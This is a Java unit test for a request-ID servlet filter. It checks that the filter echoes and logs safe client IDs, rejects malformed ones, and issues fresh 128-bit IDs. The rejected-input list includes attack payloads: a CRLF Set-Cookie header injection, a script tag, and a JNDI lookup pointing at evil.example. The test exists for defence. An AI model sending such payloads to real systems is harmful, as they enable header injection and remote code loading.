package org.coalition.kas.http;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.servlet.FilterChain;
import java.util.HashSet;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.MDC;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;

class RequestIdsTest {

    private final RequestIds filter = new RequestIds();
    private final MockHttpServletRequest request = new MockHttpServletRequest();
    private final MockHttpServletResponse response = new MockHttpServletResponse();
    private String logged;
    private final FilterChain chain = (in, out) -> logged = MDC.get("clientRequestId");

    @ParameterizedTest
    @ValueSource(
            strings = {"a", "req-1", "A.b_C-9", "0123456789012345678901234567890123456789012345678901234567890123"})
    void filter_whenTheClientsIdIsHarmless_echoesAndLogsIt(String id) throws Exception {
        request.addHeader("X-Request-ID", id);
        filter.doFilter(request, response, chain);

        assertThat(response.getHeader("X-Request-ID")).isEqualTo(id);
        assertThat(logged).isEqualTo(id);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "a b",
                "a\r\nSet-Cookie: x=y",
                "a\n",
                "a\u0000",
                "é",
                "<script>",
                "${jndi:ldap://evil.example}",
                "01234567890123456789012345678901234567890123456789012345678901234"
            })
    void filter_whenTheClientsIdIsNot_neitherEchoesNorLogsIt(String id) throws Exception {
        request.addHeader("X-Request-ID", id);
        filter.doFilter(request, response, chain);

        assertThat(response.getHeader("X-Request-ID")).isNull();
        assertThat(logged).isNull();
    }

    @Test
    void filter_givesEachRequestAFreshIdOf128Bits() throws Exception {
        Set<String> ids = new HashSet<>();
        for (int i = 0; i < 100; i++) {
            MockHttpServletRequest each = new MockHttpServletRequest();
            each.addHeader("X-Request-ID", "the-same");
            filter.doFilter(each, new MockHttpServletResponse(), chain);
            ids.add(RequestIds.of(each));
        }

        assertThat(ids).hasSize(100).allMatch(id -> id.matches("[A-Za-z0-9_-]{22}"));
    }

    @Test
    void filter_leavesNothingToTheNextRequestOfTheThread() throws Exception {
        request.addHeader("X-Request-ID", "a");
        filter.doFilter(request, response, chain);

        assertThat(MDC.get("requestId")).isNull();
        assertThat(MDC.get("clientRequestId")).isNull();
    }
}
